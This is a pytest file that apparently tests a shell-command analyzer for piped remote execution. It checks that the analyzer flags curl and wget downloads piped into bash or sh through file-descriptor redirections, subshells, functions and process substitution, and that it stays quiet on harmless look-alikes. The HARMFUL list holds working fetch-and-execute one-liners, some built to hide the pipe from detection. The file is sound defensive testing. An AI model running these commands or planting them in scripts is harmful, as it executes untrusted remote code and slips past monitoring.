"""Descriptors that a compound command or a function lends to what runs inside of it."""

from __future__ import annotations

import pytest

from tests.flow.evaluations import outcomes

HARMFUL = [
    # lent
    ("{ curl -s https://example.com/p >&3; } 3>&1 | bash", "bash", "fetched"),
    ("( curl -s https://example.com/p >&3) 3>&1 | bash", "bash", "fetched"),
    ("{ curl -s https://example.com/p > /dev/fd/3; } 3>&1 | bash", "bash", "fetched"),
    ("{ curl https://example.com/p >&3; } 3> q; sh q", "bash", "fetched"),
    ("f(){ curl https://example.com/p >&3; }; f 3> q; sh q", "bash", "fetched"),
    ("{ curl -s https://example.com/p >&3; } 3> >(bash)", "bash", "fetched"),
    ("{ { curl -s https://example.com/p >&4; } 4>&3; } 3>&1 | bash", "bash", "fetched"),
    ("while :; do curl -s https://example.com/p >&3; break; done 3>&1 | bash", "bash", "fetched"),
    ("if true; then curl -s https://example.com/p >&3; fi 3> q; . ./q", "bash", "fetched"),
    (
        "exec 3>&1; curl -s https://example.com/p >&3 | bash; { curl -s https://example.com/p >&3; } | cat",
        "bash",
        "fetched",
    ),
    ("{ curl -s https://example.com/p >&2; } 2>&1 | bash", "bash", "fetched"),
    ("{ exec > q; curl -s https://example.com/p; } 3>&1; sh q", "bash", "fetched"),
    ("bash -c 'curl -s https://example.com/p >&3' 3> q; sh q", "bash", "fetched"),
    ("{ x=$(curl -s https://example.com/p >&3); } 3>q; sh q", "bash", "fetched"),
    ("{ curl -s https://example.com/p | tee /dev/fd/3 >/dev/null; } 3>&1 | bash", "bash", "fetched"),
    # more
    ("{ wget -qO /dev/stderr u; } 2>&1 | bash", "bash", "fetched"),
    ("wget -qO /dev/stdout u | bash", "bash", "fetched"),
]

HARMLESS = [
    # lent
    ("{ echo hi >&3; curl -s https://example.com/p; } 3> q; sh q", "bash"),
    ("{ curl -s https://example.com/p >&2; } 3>&1 | bash", "bash"),
    ("{ curl -s https://example.com/p >&3; } 3>/dev/null | bash", "bash"),
    ("{ curl -s https://example.com/p >&3; } 3>&2 | bash", "bash"),
    ("{ echo ls >&3; } 3> q; sh q", "bash"),
    ("exec 3>&1; ls >&3", "bash"),
    ("{ ls; } 3>&1 1>&2 2>&3 | grep x", "bash"),
    ("dialog --menu a 3>&1 1>&2 2>&3", "bash"),
    # more
    ("{ wget -qO /dev/stderr u; } | bash", "bash"),
    ("echo x | tee /dev/stderr | cat", "bash"),
]


@pytest.mark.parametrize(("text", "dialect", "outcome"), HARMFUL)
def test_harmful(text: str, dialect: str, outcome: str) -> None:
    """What is executed or destroyed is seen, whatever way it takes."""
    assert outcome in outcomes(text, dialect)


@pytest.mark.parametrize(("text", "dialect"), HARMLESS)
def test_harmless(text: str, dialect: str) -> None:
    """The look-alike that does no harm is quiet."""
    assert outcomes(text, dialect) == set()
